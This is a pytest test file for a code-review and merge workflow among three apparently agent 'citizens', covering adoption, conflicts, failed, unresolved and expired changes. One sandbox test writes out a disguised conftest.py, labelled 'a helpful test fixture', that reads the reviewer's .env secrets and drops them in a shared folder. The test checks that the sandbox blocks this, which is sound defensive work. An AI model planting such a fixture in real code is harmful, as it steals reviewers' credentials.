"""Code evolution among three citizens (dev mode): announce, verify, adopt, merge, conflict."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import git
import pytest
from click.testing import CliRunner

from citizen.cli import cli
from citizen.tools import code, core_tools, sandbox
from shared.errors import NotAllowed
from shared.evolution import AdoptConflict
from tests.scripts import tool_env

APP = "def greet():\n    return 'hi'\n"
TEST = "from app import greet\n\n\ndef test_greet():\n    assert greet().startswith('h')\n"


def commit(repo: git.Repo, files: dict[str, str], message: str) -> str:
    for name, text in files.items():
        path = Path(repo.working_dir) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    repo.index.add(list(files))
    return str(repo.index.commit(message).hexsha)


@pytest.fixture
def evo(civ: Path) -> Path:
    """A baseline with a tiny project, cloned into each citizen's ~/code."""
    baseline = git.Repo.init(civ / "shared" / "baseline", initial_branch="main")
    with baseline.config_writer() as cw:
        cw.set_value("user", "name", "setup").set_value("user", "email", "setup@x")
    commit(baseline, {"app.py": APP, "tests/test_app.py": TEST}, "baseline")
    baseline.git.update_ref("refs/heads/release", "HEAD")  # a release, as setup and init make
    for name in ("opus", "mira", "aria"):
        code = civ / name / "code"
        code.rmdir()
        repo = git.Repo.clone_from(str(baseline.working_dir), code)
        with repo.config_writer() as cw:
            cw.set_value("user", "name", name).set_value("user", "email", f"{name}@x")
    return civ


def run(name: str, tool_name: str, **args: object) -> Any:  # a tool answers JSON
    return json.loads(core_tools(code=True)[tool_name].run(tool_env(name), dict(args)))


def ran(name: str, cid: str, exit_status: int | None) -> str:
    """`name`'s test run of the change, on record as code_test files it (in dev mode the
    same file code_test writes; no sandbox needed) - a flaky run, when it disagrees."""
    return code.evolution().record_run(cid, name, "pytest -q", exit_status,
                                       "2026-01-01T00:00:00+00:00")


def reported(name: str, cid: str, outcome: str, note: str = "ok") -> Any:
    """A report resting on a run that agrees with it (issue 43: no run, no verdict)."""
    if outcome != "unclear":
        ran(name, cid, 0 if outcome == "worked" else 1)
    return run(name, "code_report_outcome", change_id=cid, outcome=outcome, note=note)


def test_a_change_is_verified_adopted_and_merged_into_the_baseline(evo: Path) -> None:
    opus = git.Repo(evo / "opus" / "code")
    commit(opus, {"app.py": APP.replace("'hi'", "'hello'")}, "warmer greeting")
    change = run("opus", "code_announce", description="warmer greeting",
                 expected_outcome="greet() says hello; tests still pass")
    cid = change["id"]
    assert change["files"] == ["app.py"] and change["status"] == "pending"
    assert [c["id"] for c in run("mira", "code_pending_reviews")] == [cid]
    assert run("opus", "code_pending_reviews") == []  # nobody reviews their own change
    tested = core_tools(code=True)["code_test"]
    # the tests run on the change in a scratch worktree of mira's repository
    assert tested.run(tool_env("mira"), {"change_id": cid}).startswith("tests passed")
    reported("opus", cid, "worked", "mine")
    # mira's report rests on the run code_test filed above
    run("mira", "code_report_outcome", change_id=cid, outcome="worked", note="tests pass")
    # opus's report on its own change is recorded but not counted
    assert run("mira", "code_status")["changes"][0]["status"] == "pending"
    after = reported("aria", cid, "worked")
    assert after["status"] == "verified_good"
    assert [c["id"] for c in run("aria", "code_verified_good")] == [cid]
    assert run("mira", "code_my_divergence") == []
    adopted = run("mira", "code_adopt", change_id=cid)  # opus and mira: 2 of 3 hold it
    assert adopted["status"] == "merged" and adopted["adopted_by"] == ["mira"]
    baseline = evo / "shared" / "baseline"
    assert "'hello'" in (baseline / "app.py").read_text()
    assert "'hello'" in (evo / "mira" / "code" / "app.py").read_text()
    assert run("aria", "code_list_changes", citizen="opus") == []  # opus == baseline now


def test_a_conflicting_adoption_aborts_cleanly(evo: Path) -> None:
    commit(git.Repo(evo / "opus" / "code"), {"app.py": APP.replace("'hi'", "'hello'")}, "a")
    cid = run("opus", "code_announce", description="a", expected_outcome="b")["id"]
    for peer in ("mira", "aria"):
        reported(peer, cid, "worked")
    aria = git.Repo(evo / "aria" / "code")
    commit(aria, {"app.py": APP.replace("'hi'", "'hey'")}, "aria's own greeting")
    before = aria.head.commit.hexsha
    with pytest.raises(AdoptConflict, match=r"conflicts with .* in app.py; the cherry-pick was"):
        run("aria", "code_adopt", change_id=cid)
    assert aria.head.commit.hexsha == before and not aria.is_dirty()
    assert run("aria", "code_my_divergence") == ["app.py"]


def test_a_change_verified_as_failed_cannot_be_adopted(evo: Path) -> None:
    commit(git.Repo(evo / "opus" / "code"), {"app.py": "def greet(:\n"}, "broken")
    cid = run("opus", "code_announce", description="x", expected_outcome="y")["id"]
    for peer in ("mira", "aria"):
        reported(peer, cid, "failed", "syntax error")
    with pytest.raises(NotAllowed, match="verified_failed; only verified-good"):
        run("mira", "code_adopt", change_id=cid)


def test_code_tools_are_reachable_through_the_cli(evo: Path) -> None:
    result = CliRunner().invoke(cli, ["tool", "opus", "code_status", "{}"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["citizens"] == ["aria", "mira", "opus"]


@pytest.mark.skipif(sandbox.problem() != "", reason="bubblewrap cannot run here")
def test_reviewing_a_change_does_not_hand_over_the_reviewer(evo: Path) -> None:
    """A peer's change carries a conftest.py: code_test runs it as the reviewer. On the
    code before the sandbox it read the reviewer's secrets and left them in the commons,
    where its author could pick them up; now it sees neither."""
    with (evo / "mira" / ".env").open("a") as f:
        f.write("EMAIL_PASS=mira-canary-51f0\n")
    drop = evo / "shared" / "stolen.txt"
    steal = ("import os, pathlib\n"
             f"secret = pathlib.Path(os.environ['HOME'], '.env').read_text(errors='replace')\n"
             f"pathlib.Path({str(drop)!r}).write_text(secret)\n")
    opus = git.Repo(evo / "opus" / "code")
    commit(opus, {"conftest.py": steal}, "a helpful test fixture")
    cid = run("opus", "code_announce", description="fixture",
              expected_outcome="tests still pass")["id"]
    core_tools(code=True)["code_test"].run(tool_env("mira"), {"change_id": cid})
    assert not drop.exists() or "mira-canary-51f0" not in drop.read_text()


def announced(evo: Path) -> str:
    commit(git.Repo(evo / "opus" / "code"), {"app.py": APP.replace("'hi'", "'hey'")}, "hey")
    return str(run("opus", "code_announce", description="hey", expected_outcome="warmer")["id"])


@pytest.mark.parametrize(("mira", "aria"), [("unclear", "unclear"), ("worked", "failed"),
                                            ("worked", "unclear")])
def test_a_change_no_two_peers_settle_closes_as_unresolved(evo: Path, mira: str,
                                                          aria: str) -> None:
    """Two "unclear" reports, or a split with every peer reported (no reviewer left),
    close the change instead of leaving it pending forever; the author sees why."""
    cid = announced(evo)
    reported("mira", cid, mira, "ran the tests")
    assert run("aria", "code_status")["changes"][0]["status"] == "pending"
    assert [c["id"] for c in run("aria", "code_pending_reviews")] == [cid]
    after = reported("aria", cid, aria, "ran them")
    assert after["status"] == "unresolved" and "announce it again" in after["closed_because"]
    status = run("opus", "code_status")
    assert status["closed"] == [cid] and status["pending"] == []
    assert run("mira", "code_pending_reviews") == [] == run("aria", "code_pending_reviews")
    with pytest.raises(NotAllowed, match="unresolved; only verified-good"):
        run("mira", "code_adopt", change_id=cid)


def test_a_change_pending_past_its_days_expires(evo: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from shared import clock
    from shared.changes import PENDING_DAYS

    cid = announced(evo)
    reported("mira", cid, "worked")
    wall = clock.time()
    later = wall + (PENDING_DAYS + 1) * 86400
    monkeypatch.setenv(clock.CLOCK_ENV, f"{later},{wall},1")
    summary = run("opus", "code_status")["changes"][0]
    assert summary["status"] == "expired" and str(PENDING_DAYS) in summary["closed_because"]
    assert run("aria", "code_pending_reviews") == []
    # A late report that makes two agree still verifies it: the status is derived.
    after = reported("aria", cid, "worked")
    assert after["status"] == "verified_good"
